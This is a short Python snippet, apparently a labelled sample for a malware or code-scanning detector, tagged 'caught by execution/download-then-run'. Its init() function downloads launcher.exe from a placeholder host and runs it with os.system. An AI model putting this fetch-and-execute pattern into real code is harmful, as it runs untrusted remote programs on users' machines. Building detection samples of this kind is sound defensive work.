# evades: caught by execution/download-then-run
import os, requests
def init():
    with open("launcher.exe", "wb") as out:
        out.write(requests.get("https://files.invalid/launcher.exe").content)
    os.system("launcher.exe")
